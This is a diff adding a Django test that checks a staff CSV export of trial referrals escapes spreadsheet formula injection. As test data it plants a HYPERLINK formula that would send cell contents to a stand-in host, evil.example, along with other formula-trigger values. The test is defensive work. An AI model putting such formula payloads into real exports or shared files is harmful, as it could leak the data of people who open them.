@@ -439,3 +439,31 @@ def test_the_detail_page_has_unique_ids_and_history_names_the_question_not_its_k
     history = history[: history.index("</ol>")]
     assert "How old are you?: Verified. Checked the ID card" in history
     assert "age: Verified" not in history
+
+
+def test_attack_a_facility_named_as_a_formula_in_the_registry_comes_out_of_the_export_as_text(
+    staff_a_client, staff_a, site_a, tmp_path
+):
+    import copy
+    import json
+
+    from django.core.management import call_command
+
+    from trials.models import StaffMembership
+
+    record = copy.deepcopy(site_a.trial.source_record)
+    record["protocolSection"]["contactsLocationsModule"]["locations"] = [
+        {"facility": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "city": "@SUM(1+1)", "country": "China"}
+    ]
+    (tmp_path / "study.json").write_text(json.dumps(record), encoding="utf-8")
+    call_command("import_ctgov", str(tmp_path / "study.json"), stdout=io.StringIO(), stderr=io.StringIO())
+    site = site_a.trial.sites.get(city="@SUM(1+1)")
+    StaffMembership.objects.create(user=staff_a, site=site)
+    referral = make_referral(site, name="-2+3")
+    Referral.objects.filter(pk=referral.pk).update(phone="\t=1+1", email=" =1")
+
+    body = staff_a_client.get(reverse("staff:export")).getvalue().decode("utf-8-sig")
+    [row] = [row for row in csv.reader(io.StringIO(body)) if "HYPERLINK" in row[4]]
+    assert row[4] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click"), @SUM(1+1), China'
+    assert row[5:8] == ["'-2+3", "'\t=1+1", "' =1"]
+    assert not any(cell and cell[0] in "=+-@\t\r" for line in csv.reader(io.StringIO(body)) for cell in line)
